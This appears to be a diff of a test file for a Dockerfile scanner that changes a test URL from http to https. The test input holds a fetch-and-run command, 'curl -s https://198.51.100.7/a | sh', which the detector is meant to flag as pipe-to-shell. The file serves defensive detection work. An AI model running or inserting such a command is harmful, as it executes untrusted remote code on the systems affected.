@@ -138,14 +138,14 @@ def test_the_deepest_text_fits_on_the_stack() -> None:
 
 def test_evidence_shows_the_place_in_the_file() -> None:
     """Line, span and text are those of the file; a pipe is shown from its beginning."""
-    text = "FROM a\nRUN true && \\\n# why\n  curl -s http://198.51.100.7/a \\\n  | sh; x\n"
+    text = "FROM a\nRUN true && \\\n# why\n  curl -s https://198.51.100.7/a \\\n  | sh; x\n"
     seen = {e.signal: e for e in score_dockerfile(text).evidence}
     source, pipe = seen["dockerfile.address_source"], seen["dockerfile.pipe_to_shell"]
 
-    assert ["http://198.51.100.7/a", 2] == [source.text, source.line]
-    assert ["curl -s http://198.51.100.7/a | sh", 2] == [pipe.text, pipe.line]
-    assert "http://198.51.100.7/a" == text[slice(*source.span)]
-    assert "curl -s http://198.51.100.7/a \\\n  | sh" == text[slice(*pipe.span)]
+    assert ["https://198.51.100.7/a", 2] == [source.text, source.line]
+    assert ["curl -s https://198.51.100.7/a | sh", 2] == [pipe.text, pipe.line]
+    assert "https://198.51.100.7/a" == text[slice(*source.span)]
+    assert "curl -s https://198.51.100.7/a \\\n  | sh" == text[slice(*pipe.span)]
 
 
 @pytest.mark.parametrize("given", [Path("Dockerfile"), b"FROM a", None])
